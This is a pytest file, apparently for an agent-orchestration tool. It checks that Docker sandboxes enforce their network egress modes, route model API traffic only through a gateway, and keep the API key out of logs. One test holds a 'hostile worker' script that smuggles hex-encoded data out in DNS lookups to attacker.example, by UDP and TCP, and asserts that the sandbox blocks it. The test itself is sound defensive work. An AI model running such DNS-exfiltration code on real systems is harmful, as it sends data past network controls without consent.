"""The egress policy, against servers of our own: two tiny HTTP servers and a scripted model server, each
a container from the orch image on a private Docker network. No test traffic leaves this machine.

Under the allowlist, the allowlisted server answers and the other one is refused at once; `none` refuses
both; the model API host comes from ANTHROPIC_BASE_URL and is open to the gateway's uid only; real Claude
Code works under the allowlist and under `none` through the gateway, and the key lands in no file of the
run folder and no container log.
"""

from __future__ import annotations

import contextlib
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import docker
import docker.errors
import pytest

from orch.allowlist import normalize_entry
from orch.backends.docker.sandbox import DockerSandbox
from orch.container import probes
from orch.container.layout import LABEL_MANAGED
from orch.run.events import Event
from orch.run.folder import RunFolder
from orch.run.records import DockerRunInfo
from orch.settings.user import DEFAULT_ALLOW
from orch.waits import wait_until
from tests.dockertest import BUILD_TIMEOUT, events, new_name, script_brief, unique
from tests.helpers import orch

pytestmark = [pytest.mark.docker, pytest.mark.timeout(BUILD_TIMEOUT)]
PORT = 8000
SECRET = "sk-ant-orch-egress-test-secret-0123456789"


@dataclass(frozen=True)
class Net:
    network: str
    allowed: str  # container name of the server we allowlist
    other: str  # container name of the one we do not
    other_ip: str
    model: str  # container name of the scripted model server


def _server(engine: docker.DockerClient, image: str, network: str, name: str, command: list[str]) -> str:
    container = engine.containers.run(
        image,
        command,
        name=name,
        detach=True,
        network=network,
        user="1000:1000",
        read_only=True,
        cap_drop=["ALL"],
        security_opt=["no-new-privileges:true"],
        tmpfs={"/tmp": ""},
        working_dir="/tmp",
        labels={LABEL_MANAGED: "test"},
    )
    listening = ["python3", "-c", f"import socket; socket.create_connection(('127.0.0.1', {PORT}), 1)"]
    wait_until(lambda: container.exec_run(listening)[0] == 0, 30, f"{name} to listen")
    container.reload()
    return str(container.attrs["NetworkSettings"]["Networks"][network]["IPAddress"])


@pytest.fixture(scope="module")
def net(engine: docker.DockerClient, image: str) -> Iterator[Net]:
    net_name = unique("orch-test-net")
    network = engine.networks.create(net_name, driver="bridge", labels={LABEL_MANAGED: "test"})
    made: list[str] = []
    try:
        http = ["python3", "-m", "http.server", str(PORT), "--bind", "0.0.0.0"]
        allowed, other, model = unique("orch-test-a"), unique("orch-test-b"), unique("orch-test-model")
        made += [allowed, other, model]
        _server(engine, image, net_name, allowed, http)
        other_ip = _server(engine, image, net_name, other, http)
        _server(engine, image, net_name, model, ["orch", "model-server", "--host", "0.0.0.0", "--port", str(PORT)])
        yield Net(net_name, allowed, other, other_ip, model)
    finally:
        for name in made:
            with contextlib.suppress(docker.errors.NotFound):
                engine.containers.get(name).remove(force=True)
        network.remove()


@pytest.fixture
def isolated_env(monkeypatch: pytest.MonkeyPatch, net: Net) -> None:
    """Only our own hosts on the allowlist: the model server by ANTHROPIC_BASE_URL, no public defaults."""
    monkeypatch.setenv(DEFAULT_ALLOW.name, "")
    monkeypatch.setenv("ANTHROPIC_BASE_URL", f"http://{net.model}:{PORT}")
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    for var in ("ANTHROPIC_AUTH_TOKEN", "CLAUDE_CODE_OAUTH_TOKEN"):
        monkeypatch.delenv(var, raising=False)


PROBE = (
    "import sys, urllib.error, urllib.request\n"
    "for url in sys.argv[1:]:\n"
    "    try:\n"
    "        urllib.request.urlopen(url, timeout=5).read(); print(url, 'ok')\n"
    "    except urllib.error.HTTPError:\n"
    "        print(url, 'ok')  # an HTTP answer, whatever its status: reachable\n"
    "    except Exception as exc:\n"
    "        print(url, 'blocked', type(exc).__name__)\n"
)


def _reach(run: RunFolder, urls: list[str]) -> dict[str, bool]:
    code, out = DockerSandbox().run_as_user(run.info(), ["python3", "-c", PROBE, *urls])
    assert code == 0, out
    return {line.split()[0]: line.split()[1] == "ok" for line in out.splitlines() if line.startswith("http")}


@pytest.mark.usefixtures("isolated_env")
@pytest.mark.parametrize(
    ("mode", "allow_by", "expect"),
    [
        ("allowlist", "name", (True, False, False)),  # the model API is the gateway's alone
        ("allowlist", "ip", (False, True, False)),
        ("none", "name", (False, False, False)),
        ("open", "name", (True, True, True)),
    ],
    ids=["allowlist-by-name", "allowlist-by-ip", "none", "open"],
)
def test_egress_modes(
    net: Net, names: list[str], workdir: Path, mode: str, allow_by: str, expect: tuple[bool, bool, bool]
) -> None:
    name = new_name(names, "eg")
    allow = net.allowed if allow_by == "name" else net.other_ip
    result = orch(
        "up", name, "--isolation", "shared", "--agent", "scripted", "--workdir", workdir, "--network", net.network,
        "--egress", mode, "--allow", allow,
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    run = RunFolder.for_name(name)
    urls = [f"http://{net.allowed}:{PORT}/", f"http://{net.other_ip}:{PORT}/", f"http://{net.model}:{PORT}/"]
    got = _reach(run, urls)
    assert tuple(got[u] for u in urls) == expect, got
    (report,) = [e["data"] for e in events(run) if e["event"] == Event.EGRESS]
    assert isinstance(report, dict) and report["mode"] == mode
    if mode != "open":
        assert str(report["selftest"]).startswith("blocked 192.0.2.1")
    if mode == "allowlist":
        # --allow (an IP becomes a /32 network); ANTHROPIC_BASE_URL's host is open to the gateway's uid only
        assert set(report["allowed"]) == {normalize_entry(allow)}
        assert set(report["gateway"]) == {net.model} and str(report["gateway_selftest"]).startswith("blocked")
    assert orch("kill", name).exit_code == 0


@pytest.mark.claude
@pytest.mark.usefixtures("isolated_env")
@pytest.mark.parametrize("mode", ["allowlist", "none"])
def test_claude_through_the_gateway(
    net: Net, names: list[str], workdir: Path, tmp_path: Path, engine: docker.DockerClient, mode: str
) -> None:
    """Not offline: the real path. Under the allowlist and under `none` alike, the model API is open to the
    gateway's uid alone (the workers are refused there), and the worker's turns go through the gateway."""
    name = new_name(names, "eg")
    result = orch("up", name, "--isolation", "shared", "--workdir", workdir, "--network", net.network, "--egress", mode)
    assert result.exit_code == 0, result.output
    run = RunFolder.for_name(name)
    info = run.info()
    assert isinstance(info, DockerRunInfo) and info.container.options.allow == []  # the gateway's only
    (report,) = [e["data"] for e in events(run) if e["event"] == Event.EGRESS]
    assert isinstance(report, dict) and report["mode"] == mode and set(report["gateway"]) == {net.model}
    assert str(report["gateway_selftest"]).startswith("blocked")  # the run's uid is refused there
    assert not _reach(run, [f"http://{net.model}:{PORT}/"])[f"http://{net.model}:{PORT}/"]
    brief = tmp_path / "brief.md"
    brief.write_text(script_brief(run, 1))
    assert orch("brief", name, "1", brief).exit_code == 0
    assert orch("wait", name, "--timeout", "120").exit_code == 0
    assert "worker 1 checked in" in run.bus.read_text()
    logs = engine.containers.get(info.container.id).logs().decode(errors="replace")
    assert orch("kill", name).exit_code == 0
    assert SECRET not in logs
    for path in run.root.rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(errors="replace"), path


# A name server of our own that only notes what reaches it (UDP and TCP on port 53 of its own address).
RESOLVER = (
    "import socket, threading\n"
    "def udp():\n"
    "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 53))\n"
    "    while True:\n"
    "        data, peer = s.recvfrom(4096); print('got udp', peer[0], data.hex(), flush=True)\n"
    "threading.Thread(target=udp, daemon=True).start()\n"
    "t = socket.socket(); t.bind(('0.0.0.0', 53)); t.listen(8)\n"
    "while True:\n"
    "    c, peer = t.accept(); print('got tcp', peer[0], flush=True); c.close()\n"
)
# The hostile worker: secret data out as a lookup, through the system resolver (Docker's 127.0.0.11, which
# would forward it to the machine's resolvers), then straight at a name server on the allowlist, by UDP and TCP.
EXFIL = (
    "import socket, struct, sys\n"
    "data, resolver = sys.argv[1], sys.argv[2]\n"
    "name = data + '.attacker.example'\n"
    "try:\n"
    "    socket.getaddrinfo(name, 80, socket.AF_INET); print('lookup resolved')\n"
    "except socket.gaierror as exc:\n"
    "    print('lookup failed', exc.errno)\n"
    "query = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
    "query += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)\n"
    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.sendto(query, (resolver, 53))\n"
    "try:\n"
    "    reply = u.recv(4096); print('udp answer rcode', reply[3] & 15)\n"
    "except OSError as exc:\n"
    "    print('udp', type(exc).__name__)\n"
    "try:\n"
    "    socket.create_connection((resolver, 53), 5); print('tcp connected')\n"
    "except TimeoutError:\n"
    "    print('tcp timed out')\n"
    "except OSError as exc:\n"
    "    print('tcp refused', exc.errno)\n"
)


@pytest.mark.usefixtures("isolated_env")
def test_a_dns_lookup_carries_nothing_out(
    net: Net, names: list[str], workdir: Path, engine: docker.DockerClient, image: str
) -> None:
    """Hostile: a worker spells data into a name to look up. Even with a name server's address on the
    allowlist, nothing reaches it (by UDP or TCP): the lookup fails in the container, where orch's own
    responder answers only the allowlist's names, and the refused name is in the run's logs/dns.log."""
    resolver_name = unique("orch-test-dns")
    resolver = engine.containers.run(
        image, ["python3", "-c", RESOLVER], name=resolver_name, detach=True, network=net.network,
        user="1000:1000", read_only=True, cap_drop=["ALL"], security_opt=["no-new-privileges:true"],
        sysctls={"net.ipv4.ip_unprivileged_port_start": "0"}, labels={LABEL_MANAGED: "test"},
    )  # fmt: skip
    try:
        resolver.reload()
        resolver_ip = str(resolver.attrs["NetworkSettings"]["Networks"][net.network]["IPAddress"])
        control = ["python3", "-c", f"import socket; socket.socket(2, 2).sendto(b'control', ('{resolver_ip}', 53))"]
        wait_until(
            lambda: resolver.exec_run(control)[0] == 0 and b"got udp" in resolver.logs(), 30, "the name server to note"
        )
        name = new_name(names, "eg")
        result = orch(
            "up", name, "--isolation", "shared", "--agent", "scripted", "--workdir", workdir, "--network", net.network,
            "--allow", net.allowed, "--allow", resolver_ip,
        )  # fmt: skip
        assert result.exit_code == 0, result.output
        run = RunFolder.for_name(name)
        (report,) = [e["data"] for e in events(run) if e["event"] == Event.EGRESS]
        assert isinstance(report, dict) and set(report["dns"]) == {net.allowed, net.model}, report  # + the gateway's
        assert str(report["dns_selftest"]).startswith(f"refused {probes.DNS_PROBE}"), report
        before = resolver.logs()
        code, out = DockerSandbox().run_as_user(run.info(), ["python3", "-c", EXFIL, "6f72636873656372", resolver_ip])
        assert code == 0, out
        assert "lookup failed" in out and "udp answer rcode 3" in out and "tcp refused" in out, out
        assert _reach(run, [f"http://{net.allowed}:{PORT}/"]) == {f"http://{net.allowed}:{PORT}/": True}  # by name
        assert orch("kill", name).exit_code == 0
        assert resolver.logs() == before  # not one packet reached the name server
        refused = [json.loads(line) for line in (run.logs_dir / "dns.log").read_text().splitlines()]
        assert {"refused": "6f72636873656372.attacker.example", "type": "A"} in refused
    finally:
        resolver.remove(force=True)
